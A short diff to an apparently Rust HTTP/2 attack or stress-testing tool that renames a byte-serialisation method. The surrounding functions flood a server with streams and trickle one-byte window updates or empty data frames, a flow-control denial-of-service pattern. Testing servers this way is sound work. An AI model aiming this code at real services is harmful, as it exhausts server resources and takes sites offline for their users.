@@ -14,14 +14,14 @@ const DROP: Duration = Duration::from_millis(300);
 
 pub(super) fn connection_window(attacker: &mut Attacker) {
     let open = |attacker: &mut Attacker| downloads(attacker, 1 << 20);
-    drip(attacker, 1, open, || wire::window_update(0, 1).octets());
+    drip(attacker, 1, open, || wire::window_update(0, 1).to_bytes());
 }
 
 pub(super) fn stream_windows(attacker: &mut Attacker) {
     let open = |attacker: &mut Attacker| downloads(attacker, 0);
     drip(attacker, 1, open, || {
         let ids = (1..200).step_by(2);
-        ids.flat_map(|id| wire::window_update(id, 1).octets())
+        ids.flat_map(|id| wire::window_update(id, 1).to_bytes())
             .collect()
     });
 }
@@ -42,14 +42,14 @@ pub(super) fn empty_data(attacker: &mut Attacker) {
         for id in (1..200).step_by(2) {
             attacker.send(
                 &mut peer,
-                &wire::headers(id, &fields("POST", "/upload")).octets(),
+                &wire::headers(id, &fields("POST", "/upload")).to_bytes(),
             );
         }
         Some(peer)
     };
     drip(attacker, 1, open, || {
         let ids = (1..200).step_by(2);
-        ids.flat_map(|id| wire::data(id, b"").octets()).collect()
+        ids.flat_map(|id| wire::data(id, b"").to_bytes()).collect()
     });
 }
 
@@ -91,7 +91,7 @@ fn downloads(attacker: &mut Attacker, window: u32) -> Option<Peer> {
     let mut peer = attacker.connect_http2(&[(INITIAL_WINDOW, window)])?;
     for id in (1..200).step_by(2) {
         let head = wire::headers(id, &fields("GET", "/large")).end();
-        attacker.send(&mut peer, &head.octets());
+        attacker.send(&mut peer, &head.to_bytes());
     }
     Some(peer)
 }
